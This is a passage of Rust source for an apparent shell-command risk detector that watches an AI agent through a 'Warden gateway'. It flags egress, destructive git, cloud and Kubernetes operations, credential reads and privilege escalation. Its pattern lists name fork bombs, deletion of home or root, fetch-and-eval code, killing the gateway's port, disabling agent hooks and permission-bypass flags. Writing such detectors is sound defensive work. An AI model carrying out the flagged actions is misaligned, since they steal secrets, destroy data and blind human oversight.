            } else if !a.contains("://") && !a.contains('=') {
                if let Some(h) = a.split('/').next() {
                    self.host(h.split(':').next().unwrap_or(h));
                }
            }
        }
        if sends {
            self.f.flag(Flag::Egress, "HTTP client sends data");
            Effect::Egress
        } else {
            Effect::Read
        }
    }

    /// `rclone copy|sync|move|copyto|moveto SRC REMOTE:PATH` sends local data to a configured
    /// remote (any cloud, any name): egress of the sources to the remote (named `rclone:NAME`
    /// when it is not a host name). Listing and reading subcommands only read.
    fn rclone(&mut self, pos: &[&String], remote: &dyn Fn(&str) -> Option<String>) -> Effect {
        let Some((sub, rest)) = pos.split_first() else {
            return Effect::Execute;
        };
        let sends = matches!(
            sub.as_str(),
            "copy" | "sync" | "move" | "copyto" | "moveto" | "bisync" | "rcat"
        );
        let Some((dest, srcs)) = rest.split_last() else {
            return Effect::Read;
        };
        match remote(dest).filter(|_| sends) {
            Some(name) => {
                if as_domain(&name).is_some() {
                    self.host(&name);
                } else {
                    self.f.targets.hosts.insert(format!("rclone:{name}"));
                }
                for s in srcs {
                    if remote(s).is_none() {
                        self.path(s, Access::Read);
                    }
                }
                self.f.flag(
                    Flag::Egress,
                    format!("rclone {sub} uploads to remote {name}"),
                );
                Effect::Egress
            }
            None if sends => Effect::Write,
            None => Effect::Read,
        }
    }

    fn copy_remote(&mut self, prog: &str, args: &[String]) -> Effect {
        let pos = positional(
            args,
            &[
                "-i",
                "-P",
                "-o",
                "-F",
                "-c",
                "-l",
                "-S",
                "-e",
                "--rsh",
                "--exclude",
                "--include",
                "-J",
                "--port",
                "--config",
            ],
        );
        let remote = |a: &str| -> Option<String> {
            if a.contains("://") {
                return url_host(a);
            }
            let (before, _) = a.split_once(':')?;
            if before.contains('/') || before.is_empty() || before.len() == 1 {
                return None; // C:\ or a local path with a colon
            }
            Some(
                before
                    .rsplit('@')
                    .next()
                    .unwrap_or(before)
                    .to_ascii_lowercase(),
            )
        };
        if prog == "rclone" {
            return self.rclone(&pos, &remote);
        }
        if prog == "sftp" {
            for a in &pos {
                if let Some(h) = remote(a) {
                    self.host(&h);
                }
            }
            self.f.flag(Flag::Egress, format!("{prog} transfer"));
            return Effect::Egress;
        }
        let Some((last, srcs)) = pos.split_last() else {
            return Effect::Execute;
        };
        if let Some(h) = remote(last) {
            self.host(&h);
            for s in srcs {
                if remote(s).is_none() {
                    self.path(s, Access::Read);
                }
            }
            self.f.flag(Flag::Egress, format!("{prog} uploads to {h}"));
            Effect::Egress
        } else {
            for s in srcs {
                if let Some(h) = remote(s) {
                    self.host(&h);
                } else {
                    self.path(s, Access::Read);
                }
            }
            self.path(last, Access::Write);
            Effect::Write
        }
    }

    fn git(&mut self, args: &[String]) -> Effect {
        let mut it = args.iter().peekable();
        while let Some(a) = it.peek() {
            if *a == "-C" || *a == "-c" || *a == "--git-dir" || *a == "--work-tree" {
                it.next();
                it.next();
            } else if a.starts_with('-') {
                it.next();
            } else {
                break;
            }
        }
        let sub = it.next().map(String::as_str).unwrap_or("");
        let rest: Vec<&String> = it.collect();
        let has = |f: &str| rest.iter().any(|a| *a == f);
        // `git credential fill` and a helper's `get` (`git credential-osxkeychain get`) print
        // the stored username and password for a host: the credential store answering
        let asks_helper = sub == "credential" && (has("fill") || has("get"))
            || sub.starts_with("credential-") && has("get");
        if asks_helper {
            self.f.flag(
                Flag::CredentialStoreRead,
                format!("asks git's credential helper for a stored password (git {sub})"),
            );
            return Effect::Read;
        }
        for r in &rest {
            if let Some(h) = r.strip_prefix("git@").and_then(|x| x.split(':').next()) {
                self.host(h);
            } else if r.contains("://") {
                // a remote given as a URL (`ssh://git@host/…`, `https://host/…`) is the target
                self.url(r);
            }
        }
        match sub {
            "push" => {
                if has("--force")
                    || has("-f")
                    || has("--delete")
                    || has("-d")
                    || has("--mirror")
                    || has("--prune")
                    || rest.iter().any(|a| {
                        a.starts_with("--force")
                            || (a.starts_with(':') && a.len() > 1)
                            || (a.starts_with('+') && a.len() > 1)
                    })
                {
                    self.f.flag(Flag::Destructive, "force or delete push");
                }
                Effect::Write
            }
            "reset" if has("--hard") => {
                self.f
                    .flag(Flag::Destructive, "git reset --hard discards work");
                Effect::Write
            }
            "clean" if rest.iter().any(|a| a.starts_with('-') && a.contains('f')) => {
                self.f
                    .flag(Flag::Destructive, "git clean deletes untracked files");
                Effect::Write
            }
            "branch" if has("-D") || has("--delete") || has("-d") => {
                self.f.flag(Flag::Destructive, "deletes a branch");
                Effect::Write
            }
            "checkout" | "restore" if has("--") || has(".") || has("--force") || has("-f") => {
                self.f
                    .flag(Flag::Destructive, "discards working-tree changes");
                Effect::Write
            }
            "stash" if has("drop") || has("clear") => {
                self.f.flag(Flag::Destructive, "drops stashed work");
                Effect::Write
            }
            "status" | "log" | "diff" | "show" | "blame" | "rev-parse" | "ls-files"
            | "ls-remote" | "grep" | "describe" | "shortlog" | "reflog" | "whatchanged"
            | "cat-file" | "rev-list" | "ls-tree" | "help" | "version" | "fetch"
            | "check-ignore" | "name-rev" | "merge-base" | "show-ref" | "for-each-ref"
            | "count-objects" | "fsck" => Effect::Read,
            "branch" | "tag" | "remote" | "config" | "stash" | "worktree"
                if rest.is_empty()
                    || rest.iter().all(|a| {
                        a.starts_with('-')
                            && matches!(
                                a.as_str(),
                                "-v" | "-vv"
                                    | "-a"
                                    | "-r"
                                    | "-l"
                                    | "--list"
                                    | "--get"
                                    | "--show-current"
                                    | "-n"
                            )
                    })
                    || has("--get")
                    || has("--list")
                    || has("-l")
                    || has("--show-current") =>
            {
                Effect::Read
            }
            _ => Effect::Write,
        }
    }

    fn gh(&mut self, args: &[String]) -> Effect {
        let pos = positional(
            args,
            &[
                "-R",
                "--repo",
                "-X",
                "--method",
                "-f",
                "-F",
                "--field",
                "--raw-field",
                "-H",
                "--header",
                "-q",
                "--jq",
                "-t",
                "--template",
                "-s",
                "--scopes",
                "-h",
                "--hostname",
                "-b",
                "--body",
                "--title",
            ],
        );
        let a0 = pos.first().map(|s| s.as_str()).unwrap_or("");
        let a1 = pos.get(1).map(|s| s.as_str()).unwrap_or("");
        let has = |f: &str| {
            args.iter()
                .any(|a| a == f || a.starts_with(&format!("{f}=")))
        };
        let method = args
            .windows(2)
            .find(|w| w[0] == "-X" || w[0] == "--method")
            .map(|w| w[1].to_ascii_uppercase())
            .or_else(|| {
                args.iter()
                    .find_map(|a| a.strip_prefix("--method=").map(str::to_ascii_uppercase))
            });
        match (a0, a1) {
            ("auth", "token") => {
                self.f
                    .flag(Flag::CredentialStoreRead, "prints the GitHub CLI token");
                Effect::Read
            }
            ("auth", "refresh" | "login") if has("-s") || has("--scopes") => {
                self.f.flag(
                    Flag::PrivilegeEscalation,
                    "requests broader GitHub token scopes",
                );
                Effect::Write
            }
            ("auth", "status") => Effect::Read,
            ("api", path) => {
                let writes = method.as_deref().is_some_and(|m| m != "GET")
                    || has("-f")
                    || has("-F")
                    || has("--field")
                    || has("--raw-field")
                    || has("--input");
                if writes
                    && (path.contains("/collaborators/")
                        || path.contains("/memberships/")
                        || path.contains("/permissions")
                        || path.contains("/members/"))
                    && method.as_deref() != Some("DELETE")
                {
                    // the account after `/collaborators/`, `/memberships/` or `/members/` is
                    // the grantee
                    let grantee = ["/collaborators/", "/memberships/", "/members/"]
                        .iter()
                        .find_map(|k| path.split_once(k))
                        .and_then(|(_, rest)| rest.split(['/', '?']).next())
                        .filter(|u| !u.is_empty());
                    if let Some(u) = grantee {
                        self.f.targets.usernames.insert(u.to_ascii_lowercase());
                    }
                    self.f.flag(
                        Flag::PrivilegeEscalation,
                        "grants rights: repository or org access via the GitHub API",
                    );
                }
                if method.as_deref() == Some("DELETE") {
                    self.f.flag(Flag::Destructive, "GitHub API DELETE");
                }
                if writes {
                    Effect::Write
                } else {
                    Effect::Read
                }
            }
            ("repo", "delete")
            | ("release", "delete")
            | ("secret", "delete")
            | ("run", "delete") => {
                self.f.flag(Flag::Destructive, format!("gh {a0} delete"));
                Effect::Write
            }
            ("gist", "create" | "edit")
            | ("release", "upload")
            | ("issue" | "pr", "comment")
            | ("pr", "review") => {
                self.f
                    .flag(Flag::Egress, format!("gh {a0} {a1} publishes content"));
                Effect::Egress
            }
            (
                _,
                "view" | "list" | "status" | "diff" | "checks" | "search" | "watch" | "download",
            )
            | ("search", _)
            | ("browse", _) => Effect::Read,
            ("workflow", "run") | ("run", "rerun") => Effect::Execute,
            _ => Effect::Write,
        }
    }

    fn aws(&mut self, args: &[String]) -> Effect {
        let pos = positional(
            args,
            &[
                "--profile",
                "--region",
                "--output",
                "--query",
                "--endpoint-url",
                "--bucket",
                "--key",
                "--secret-id",
                "--name",
                "--user-name",
                "--role-name",
                "--policy-arn",
                "--group-name",
                "--policy-document",
                "--policy-name",
                "--cli-input-json",
                "--function-name",
                "--topic-arn",
                "--message",
                "--queue-url",
                "--message-body",
            ],
        );
        let svc = pos.first().map(|s| s.as_str()).unwrap_or("");
        let op = pos.get(1).map(|s| s.as_str()).unwrap_or("");
        match (svc, op) {
            ("s3", "cp" | "mv" | "sync") => {
                let src = pos.get(2).map(|s| s.as_str()).unwrap_or("");
                let dst = pos.get(3).map(|s| s.as_str()).unwrap_or("");
                let bucket = |u: &str| {
                    u.strip_prefix("s3://")
                        .and_then(|x| x.split('/').next())
                        .map(str::to_ascii_lowercase)
                };
                let cross_bucket = src.starts_with("s3://")
                    && dst.starts_with("s3://")
                    && bucket(src) != bucket(dst);
                if dst.starts_with("s3://") && !src.starts_with("s3://") {
                    self.path(src, Access::Read);
                    if let Some(b) = bucket(dst) {
                        self.f.targets.hosts.insert(format!("s3://{b}"));
                    }
                    self.f.flag(Flag::Egress, "uploads to S3");
                    Effect::Egress
                } else if cross_bucket {
                    // bucket to bucket: the data leaves for whoever owns the other bucket
                    self.f.read_paths.insert(src.to_owned());
                    self.f.targets.paths.insert(src.to_owned());
                    if let Some(b) = bucket(dst) {
                        self.f.targets.hosts.insert(format!("s3://{b}"));
                    }
                    self.f
                        .flag(Flag::Egress, "copies S3 data to another bucket");
                    Effect::Egress
                } else {
                    if !dst.starts_with("s3://") && !dst.is_empty() {
                        self.path(dst, Access::Write);
                    }
                    Effect::Write
                }
            }
            ("s3", "rm" | "rb") | ("s3api", "delete-object" | "delete-bucket") => {
                self.f.flag(Flag::Destructive, format!("aws {svc} {op}"));
                Effect::Write
            }
            ("iam", o)
                if o.starts_with("attach-")
                    || o.starts_with("put-")
                    || matches!(
                        o,
                        "create-access-key"
                            | "create-login-profile"
                            | "update-login-profile"
                            | "update-assume-role-policy"
                            | "add-user-to-group"
                            | "create-policy-version"
                            | "set-default-policy-version"
                            | "create-user"
                            | "create-role"
                            | "add-role-to-instance-profile"
                            | "create-service-specific-credential"
                    ) =>
            {
                self.f
                    .flag(Flag::PrivilegeEscalation, format!("aws iam {o}"));
                Effect::Write
            }
            ("secretsmanager", "get-secret-value" | "batch-get-secret-value")
            | ("kms", "decrypt") => {
                self.f.flag(
                    Flag::CredentialStoreRead,
                    format!("reads a cloud secret (aws {svc} {op})"),
                );
                Effect::Read
            }
            ("ssm", "get-parameter" | "get-parameters" | "get-parameters-by-path")
                if args.iter().any(|a| a == "--with-decryption") =>
            {
                self.f
                    .flag(Flag::CredentialStoreRead, "reads a decrypted SSM parameter");
                Effect::Read
            }
            ("configure", "get")
                if pos.get(2).is_some_and(|k| {
                    k.contains("secret") || k.contains("key") || k.contains("token")
                }) =>
            {
                self.f
                    .flag(Flag::CredentialStoreRead, "prints an AWS credential");
                Effect::Read
            }
            ("configure", "export-credentials") | ("sts", "get-session-token") => {
                self.f
                    .flag(Flag::CredentialStoreRead, "exports AWS credentials");
                Effect::Read
            }
            ("sns", "publish")
            | ("sqs", "send-message" | "send-message-batch")
            | ("ses" | "sesv2", _)
                if svc != "ses" || op.starts_with("send") =>
            {
                self.f.flag(Flag::Egress, format!("aws {svc} {op}"));
                Effect::Egress
            }
            (_, o)
                if o.starts_with("delete-")
                    || o.starts_with("terminate-")
                    || o.starts_with("remove-")
                    || o.starts_with("destroy") =>
            {
                self.f.flag(Flag::Destructive, format!("aws {svc} {o}"));
                Effect::Write
            }
            (_, o)
                if o.starts_with("describe-")
                    || o.starts_with("list-")
                    || o.starts_with("get-")
                    || o == "ls"
                    || o == "head-object"
                    || o == "get-caller-identity" =>
            {
                Effect::Read
            }
            _ => Effect::Execute,
        }
    }

    fn gcloud(&mut self, prog: &str, args: &[String]) -> Effect {
        let j = args.join(" ").to_ascii_lowercase();
        if j.contains("add-iam-policy-binding")
            || j.contains("set-iam-policy")
            || j.contains("service-accounts keys create")
            || j.contains("roles create")
        {
            self.f
                .flag(Flag::PrivilegeEscalation, format!("{prog} IAM change"));
            return Effect::Write;
        }
        if j.contains("secrets versions access")
            || j.contains("print-access-token")
            || j.contains("print-identity-token")
        {
            self.f.flag(
                Flag::CredentialStoreRead,
                format!("{prog} prints a secret or token"),
            );
            return Effect::Read;
        }
        if prog == "gsutil" || j.starts_with("storage") {
            let pos = positional(args, &[]);
            if pos
                .iter()
                .any(|a| a.as_str() == "cp" || a.as_str() == "rsync")
            {
                if let Some(dst) = pos.last() {
                    if dst.starts_with("gs://") {
                        self.f.flag(Flag::Egress, "uploads to Cloud Storage");
                        return Effect::Egress;
                    }
                }
            }
        }
        if j.contains(" delete") || j.starts_with("delete") || j.contains(" rm ") {
            self.f.flag(Flag::Destructive, format!("{prog} delete"));
            return Effect::Write;
        }
        if j.contains(" list")
            || j.contains(" describe")
            || j.contains(" get")
            || j.starts_with("config list")
            || j.contains(" ls")
        {
            return Effect::Read;
        }
        Effect::Execute
    }

    /// The subjects of a `kubectl create (cluster)rolebinding` (`--user`, `--group`,
    /// `--serviceaccount`), as grantees.
    fn binding_subjects(&mut self, args: &[String]) {
        const SUBJECTS: [&str; 3] = ["--user", "--group", "--serviceaccount"];
        let mut values = Vec::new();
        for (i, a) in args.iter().enumerate() {
            if let Some((flag, v)) = a.split_once('=') {
                if SUBJECTS.contains(&flag) {
                    values.push(v);
                }
            } else if SUBJECTS.contains(&a.as_str()) {
                values.extend(args.get(i + 1).map(String::as_str));
            }
        }
        for v in values.into_iter().take(16) {
            let v = v.trim_start_matches('@').to_ascii_lowercase();
            match as_email(&v) {
                Some(e) => self.email(e),
                None => {
                    self.f.targets.usernames.insert(v);
                }
            }
        }
    }

    fn kubectl(&mut self, args: &[String]) -> Effect {
        let pos = positional(
            args,
            &[
                "-n",
                "--namespace",
                "-o",
                "--output",
                "-l",
                "--selector",
                "--context",
                "--kubeconfig",
                "-f",
                "--filename",
                "-c",
                "--container",
                "--clusterrole",
                "--role",
                "--user",
                "--serviceaccount",
                "--group",
                "--as",
                "--as-group",
            ],
        );
        let sub = pos.first().map(|s| s.as_str()).unwrap_or("");
        let obj = pos
            .get(1)
            .map(|s| s.to_ascii_lowercase())
            .unwrap_or_default();
        // `auth can-i` / `auth whoami` only ask what an identity may do: impersonating one to
        // ask is how access is checked, not gained.
        let asks_only = sub == "auth" && matches!(obj.as_str(), "can-i" | "whoami");
        if !asks_only
            && (args
                .iter()
                .any(|a| a.starts_with("--as=system:") || a == "--as-group=system:masters")
                || args
                    .windows(2)
                    .any(|w| w[0] == "--as-group" && w[1] == "system:masters"))
        {
            self.f.flag(
                Flag::PrivilegeEscalation,
                "impersonates a privileged Kubernetes identity",
            );
        }
        match sub {
            "create" if obj.contains("rolebinding") => {
                // a binding grants a role to its subjects: they are the grantees (a grant to
                // people the user named is the user's own access decision, see the detector)
                self.binding_subjects(args);
                self.f.flag(
                    Flag::PrivilegeEscalation,
                    format!("kubectl create {obj} grants rights"),
                );
                Effect::Write
            }
            "create" if obj == "clusterrole" => {
                self.f
                    .flag(Flag::PrivilegeEscalation, format!("kubectl create {obj}"));
                Effect::Write
            }
            "config" if obj == "view" && args.iter().any(|a| a == "--raw" || a == "--flatten") => {
                self.f.flag(
                    Flag::CredentialStoreRead,
                    "prints the kubeconfig with its credentials (config view --raw)",
                );
                Effect::Read
            }
            "get" | "describe" if obj.starts_with("secret") => {
                if sub == "describe"
                    || args
                        .iter()
                        .any(|a| a == "-o" || a.starts_with("-o") || a.starts_with("--output"))
                {
                    self.f
                        .flag(Flag::CredentialStoreRead, "reads Kubernetes secrets");
                }
                Effect::Read
            }
            "delete" | "drain" => {
                self.f.flag(Flag::Destructive, format!("kubectl {sub}"));
                Effect::Write
            }
            "get" | "describe" | "logs" | "top" | "explain" | "version" | "api-resources"
            | "cluster-info" | "diff" | "events" => Effect::Read,
            "auth" => Effect::Read,
            "exec" | "run" | "debug" | "cp" | "port-forward" | "attach" => Effect::Execute,
            _ => Effect::Write,
        }
    }

    fn docker(&mut self, args: &[String]) -> Effect {
        let sub = positional(args, &["-H", "--host", "--context", "--config"])
            .first()
            .map(|s| s.as_str())
            .unwrap_or("")
            .to_owned();
        if sub == "run" || sub == "create" || sub == "exec" {
            let privileged = args.iter().any(|a| {
                a == "--privileged"
                    || a == "--pid=host"
                    || a.starts_with("--cap-add=SYS_ADMIN")
                    || a == "--cap-add=ALL"
            }) || args.windows(2).any(|w| {
                (w[0] == "-v" || w[0] == "--volume")
                    && (w[1].starts_with("/:") || w[1].starts_with("/var/run/docker.sock"))
            }) || args
                .iter()
                .any(|a| a.starts_with("--volume=/:") || a.starts_with("-v=/:"));
            if privileged {
                self.f.flag(
                    Flag::PrivilegeEscalation,
                    "runs a privileged container or mounts the host root",
                );
            }
            return Effect::Execute;
        }
        match sub.as_str() {
            "push" => {
                self.f.flag(Flag::Egress, "pushes an image");
                Effect::Egress
            }
            "rm" | "rmi" | "prune" | "system" | "volume"
                if args.iter().any(|a| a == "rm" || a == "prune" || a == "rmi")
                    || sub == "rm"
                    || sub == "rmi" =>
            {
                self.f.flag(Flag::Destructive, format!("docker {sub}"));
                Effect::Write
            }
            "ps" | "images" | "logs" | "inspect" | "version" | "info" | "stats" | "top"
            | "history" | "events" => Effect::Read,
            _ => Effect::Execute,
        }
    }
}

/// Programs that print the content of the files a sweep hands them.
const SWEEP_READERS: &[&str] = &[
    "cat",
    "head",
    "tail",
    "less",
    "more",
    "strings",
    "base64",
    "xxd",
    "od",
    "get-content",
    "gc",
    "type",
    "tar",
    "zip",
];

/// The name patterns of a file sweep: `find -name/-iname/-path`, `locate PATTERN`, `fd -e EXT`,
/// `Get-ChildItem -Include A,B` / `-Filter A`.
fn sweep_patterns(prog: &str, args: &[String]) -> Vec<String> {
    let mut out = Vec::new();
    let mut it = args.iter().peekable();
    while let Some(a) = it.next() {
        let l = a.to_ascii_lowercase();
        match (prog, l.as_str()) {
            ("find", "-name" | "-iname" | "-path" | "-ipath")
            | ("get-childitem" | "gci" | "dir" | "ls", "-include" | "-filter") => {
                if let Some(v) = it.next() {
                    out.extend(
                        v.split(',')
                            .map(|p| p.trim().rsplit('/').next().unwrap_or("").to_owned()),
                    );
                }
            }
            ("fd" | "fdfind", "-e" | "--extension") => {
                if let Some(v) = it.next() {
                    out.push(format!("x.{v}"));
                }
            }
            ("locate" | "mlocate" | "plocate", _) if !a.starts_with('-') => {
                out.push(a.rsplit('/').next().unwrap_or("").to_owned());
            }
            _ => {}
        }
    }
    out.retain(|p| !p.is_empty());
    out
}

/// The port the Warden gateway listens on by default (`127.0.0.1:7711`).
const GATEWAY_PORT: &str = "7711";

/// A script that kills whatever holds a TCP port: a killer (`kill`, `taskkill`, `fuser -k`,
/// `kill-port`, `Stop-Process`) together with the port given to a program as a port
/// (`lsof -ti :P | xargs kill`, `kill $(lsof -t -i tcp:P)`, `fuser -k P/tcp`, `Stop-Process -Id
/// (Get-NetTCPConnection -LocalPort P).OwningProcess`); a URL naming the port does not count.
fn kills_port_holder(script: &Script, port: &str) -> bool {
    let mut kills = false;
    let mut names_port = false;
    for c in script.commands() {
        let prog = c.program();
        let prog = prog.trim_end_matches(".exe");
        let args = c.args();
        kills |= matches!(
            prog,
            "kill" | "pkill" | "killall" | "taskkill" | "skill" | "stop-process" | "kill-port"
        ) || (prog == "fuser"
            && args.iter().any(|a| a.starts_with('-') && a.contains('k')))
            || args.first().is_some_and(|a| a == "kill-port");
        names_port |= args.iter().any(|a| port_token(a, port));
    }
    kills && names_port
}

/// Whether a word names `port` as a port: `:P`, `tcp:P`, `P/tcp`, a bare `P`, `P).Owning…`.
fn port_token(word: &str, port: &str) -> bool {
    if word.contains("://") {
        return false;
    }
    word.match_indices(port).any(|(i, _)| {
        let before = word[..i].chars().next_back();
        let after = word[i + port.len()..].chars().next();
        !before.is_some_and(|c| c.is_ascii_alphanumeric() || c == '.' || c == '-')
            && !after.is_some_and(|c| c.is_ascii_alphanumeric() || c == '.' || c == '-')
    })
}

/// Inline code whose delete call takes the home directory or the filesystem root itself (not a
/// path under it): `shutil.rmtree(os.path.expanduser("~"))`, `fs.rmSync(os.homedir(), …)`,
/// `FileUtils.rm_rf(Dir.home)`, `shutil.rmtree("/")`. `lower` is the code, lowercased.
fn deletes_home_or_root(lower: &str) -> Option<&'static str> {
    const DELETE_CALLS: &[&str] = &[
        "rmtree(",
        "rmsync(",
        "fs.rm(",
        "rm_rf(",
        "rm_r(",
        "remove_dir_all(",
        "deletedirectory(",
        "file::delete(",
        "unlinksync(",
        "os.removedirs(",
    ];
    const HOME: &[&str] = &[
        "os.path.expanduser('~')",
        "os.path.expanduser(\"~\")",
        "expanduser('~')",
        "expanduser(\"~\")",
        "pathlib.path.home()",
        "path.home()",
        "path('~').expanduser()",
        "path(\"~\").expanduser()",
        "os.homedir()",
        "require('os').homedir()",
        "require(\"os\").homedir()",
        "os.environ['home']",
        "os.environ[\"home\"]",
        "os.environ.get('home')",
        "os.environ.get(\"home\")",
        "os.getenv('home')",
        "os.getenv(\"home\")",
        "process.env.home",
        "process.env['home']",
        "dir.home",
        "env['home']",
        "env[\"home\"]",
        "$env{home}",
        "$env{'home'}",
        "'~'",
        "\"~\"",
        "'~/'",
        "\"~/\"",
    ];
    const ROOT: &[&str] = &["'/'", "\"/\"", "'/*'", "\"/*\""];
    for call in DELETE_CALLS {
        let mut from = 0;
        while let Some(i) = lower[from..].find(call) {
            let start = from + i + call.len();
            from = start;
            let arg = lower[start..].trim_start();
            let arg = arg
                .strip_prefix("path=")
                .or_else(|| arg.strip_prefix("path ="))
                .unwrap_or(arg)
                .trim_start();
            // every entry of the home directory: `rmtree(os.path.join(<home>, d))`
            if let Some(inner) = ["os.path.join(", "path.join(", "path.resolve("]
                .iter()
                .find_map(|j| arg.strip_prefix(*j))
            {
                let inner = inner.trim_start();
                // …joined with a variable that walks the listing (not a named subfolder)
                let lists = ["listdir(", "readdirsync(", "iterdir(", "scandir(", "glob("]
                    .iter()
                    .any(|l| lower.contains(l));
                if lists
                    && HOME.iter().any(|h| {
                        inner.starts_with(*h)
                            && inner[h.len()..]
                                .trim_start()
                                .strip_prefix(',')
                                .map(str::trim_start)
                                .is_some_and(|r| {
                                    r.starts_with(|c: char| c.is_ascii_alphabetic() || c == '_')
                                })
                    })
                {
                    return Some("the home directory");
                }
            }
            let ends_arg = |rest: &str| {
                matches!(
                    rest.trim_start().chars().next(),
                    Some(',') | Some(')') | None
                )
            };
            if let Some(h) = HOME.iter().find(|h| arg.starts_with(**h)) {
                if ends_arg(&arg[h.len()..]) {
                    return Some("the home directory");
                }
            }
            if let Some(r) = ROOT.iter().find(|r| arg.starts_with(**r)) {
                if ends_arg(&arg[r.len()..]) {
                    return Some("the filesystem root");
                }
            }
        }
    }
    None
}

/// `env` / `printenv` with no variable named prints every variable, API keys and tokens
/// included, unless the next command filters the listing (`env | grep -i proxy`: a search
/// for secrets is judged as such elsewhere).
fn dumps_environment(prog: &str, args: &[String], next: Option<&Command>) -> bool {
    let filtered = next.is_some_and(|n| {
        matches!(
            n.program().as_str(),
            "grep" | "rg" | "egrep" | "fgrep" | "ag" | "findstr" | "select-string" | "awk" | "sed"
        )
    });
    matches!(prog, "env" | "printenv") && args.iter().all(|a| a.starts_with('-')) && !filtered
}

/// An agent CLI's hook management told to turn hooks off (`gemini hooks disable NAME`,
/// `claude hooks remove …`): the monitor those hooks feed stops seeing the agent.
fn turns_hooks_off(args: &[String]) -> bool {
    let words: Vec<&str> = args
        .iter()
        .map(String::as_str)
        .filter(|a| !a.starts_with('-'))
        .take(3)
        .collect();
    matches!(words.first(), Some(&"hooks") | Some(&"hook"))
        && words.get(1).is_some_and(|w| {
            matches!(
                *w,
                "disable" | "remove" | "rm" | "delete" | "uninstall" | "off" | "unregister"
            )
        })
}

/// `chown -R` / `chgrp -R` of the root or a system tree (`/`, `/usr`, `/etc`) hands every
/// system file to one user: setuid programs, sudoers and services stop working or become
/// writable. The user's own home (`chown -R me ~`, a common permissions fix) is not that.
fn recursive_owner_change_breaks_system(prog: &str, n: &str, p: PathCtx<'_>) -> bool {
    matches!(prog, "chown" | "chgrp")
        && paths::catastrophic_delete_target(n, p)
        && !p.home.is_some_and(|h| paths::is_within(n, h))
        && n != "~"
        && !n.starts_with("~/")
}

/// Inline code that evaluates text as code (`eval(d)`, `exec(r.text)`, `new Function(d)()`,
/// `vm.runInThisContext`, Ruby's `instance_eval`).
fn runs_code_text(lower: &str) -> bool {
    [
        "exec(",
        "eval(",
        // a promise chain handing the fetched text to eval (`.then(r=>r.text()).then(eval)`)
        "then(eval)",
        "new function(",
        "runinthiscontext",
        "runinnewcontext",
        "instance_eval",
    ]
    .iter()
    .any(|k| lower.contains(k))
}

/// Inline code that fetches something over HTTP, in any of the usual languages' clients
/// (`urlopen`, `requests.get`, `fetch(`, Node's `require('https').get`, `axios`, Ruby's
/// `open-uri`/`Net::HTTP`, PHP's `file_get_contents('http…')`).
fn fetches_code(lower: &str) -> bool {
    [
        "urlopen",
        "requests.get",
        "urllib",
        "fetch(",
        "http.get",
        "https.get",
        "require('http",
        "require(\"http",
        "axios",
        "open-uri",
        "net::http",
        "lwp::",
        "file_get_contents('http",
        "file_get_contents(\"http",
        "curl_exec",
    ]
    .iter()
    .any(|k| lower.contains(k))
}

fn urlopen_with_data(lower: &str) -> bool {
    let Some(pos) = lower.find("urlopen(") else {
        return false;
    };
    let mut depth = 0i32;
    let mut quote: Option<char> = None;
    for ch in lower[pos + 8..].chars() {
        if let Some(q) = quote {
            if ch == q {
                quote = None;
            }
            continue;
        }
        match ch {
            '\'' | '"' => quote = Some(ch),
            '(' | '[' | '{' => depth += 1,
            ')' | ']' | '}' => {
                if depth == 0 {
                    return false;
                }
                depth -= 1;
            }
            ',' if depth == 0 => return true,
            _ => {}
        }
    }
    false
}

fn is_downloader(c: &Command) -> bool {
    let prog = c.program();
    match prog.as_str() {
        "curl" => !c
            .args()
            .iter()
            .any(|a| a == "-o" || a == "-O" || a == "--output" || a == "--remote-name"),
        "wget" => {
            c.args()
                .windows(2)
                .any(|w| (w[0] == "-O" || w[0] == "--output-document") && w[1] == "-")
                || c.args()
                    .iter()
                    .any(|a| a == "-O-" || a == "-qO-" || a == "-qO" || a == "--output-document=-")
                || c.args()
                    .iter()
                    .any(|a| a.starts_with('-') && a.ends_with("O-"))
        }
        "fetch" | "iwr" | "invoke-webrequest" | "irm" | "invoke-restmethod" | "aria2c" | "http"
        | "https" | "xh" => true,
        _ => false,
    }
}

fn is_block_device(p: &str) -> bool {
    let Some(d) = p.strip_prefix("/dev/") else {
        return false;
    };
    [
        "sd", "nvme", "hd", "disk", "rdisk", "mmcblk", "xvd", "vd", "md", "dm-", "mapper/", "loop",
    ]
    .iter()
    .any(|x| d.starts_with(x))
}

fn fork_bomb(raw: &str) -> bool {
    let compact: String = raw.chars().filter(|c| !c.is_whitespace()).collect();
    if compact.contains(":(){:|:&};:") {
        return true;
    }
    // name(){ name|name& };name
    if let Some(i) = compact.find("(){") {
        let name_start = compact[..i]
            .rfind(|c: char| !(c.is_alphanumeric() || c == '_' || c == ':'))
            .map(|x| x + 1)
            .unwrap_or(0);
        let name = &compact[name_start..i];
        if !name.is_empty() {
            let body = format!("(){{{name}|{name}&}}");
            return compact[name_start + name.len()..].starts_with(&body);
        }
    }
    false
}

fn shell_like(prog: &str) -> bool {
    matches!(
        prog,
        "sh" | "bash" | "zsh" | "dash" | "ksh" | "ash" | "fish" | "busybox" | "csh" | "tcsh"
    )
}

fn interpreter(prog: &str) -> bool {
    let p = prog.trim_end_matches(|c: char| c.is_ascii_digit() || c == '.');
    matches!(
        p,
        "python"
            | "pypy"
            | "node"
            | "nodejs"
            | "deno"
            | "bun"
            | "perl"
            | "ruby"
            | "php"
            | "lua"
            | "pwsh"
            | "powershell"
            | "osascript"
            | "tclsh"
            | "Rscript"
    )
}

fn shell_quote(s: &str) -> String {
    if !s.is_empty()
        && s.bytes()
            .all(|b| b.is_ascii_alphanumeric() || b"-_./=:@%+,".contains(&b))
    {
        s.to_owned()
    } else {
        format!("'{}'", s.replace('\'', r"'\''"))
    }
}

/// Positional arguments: skips flags and the values of the listed value-taking flags.
fn positional<'s>(args: &'s [String], value_flags: &[&str]) -> Vec<&'s String> {
    let mut out = Vec::new();
    let mut it = args.iter();
    let mut after_dashdash = false;
    while let Some(a) = it.next() {
        if after_dashdash {
            out.push(a);
        } else if a == "--" {
            after_dashdash = true;
        } else if a.starts_with('-') && a.len() > 1 {
            if value_flags.contains(&a.as_str()) {
                it.next();
            }
        } else {
            out.push(a);
        }
    }
    out
}

fn display_path(raw: &str, norm: &str) -> String {
    let r = raw.trim();
    if r.starts_with('~') || r.starts_with('/') {
        r.to_owned()
    } else {
        norm.to_owned()
    }
}

/// Text that switches an agent into a permission-bypassing mode.
fn permission_mode_text(t: &str) -> bool {
    const NEEDLES: &[&str] = &[
        "bypassPermissions",
        "--dangerously-skip-permissions",
        "--dangerously-bypass-approvals-and-sandbox",
        "--approval-mode=yolo",
        "--approval-mode yolo",
        "danger-full-access",
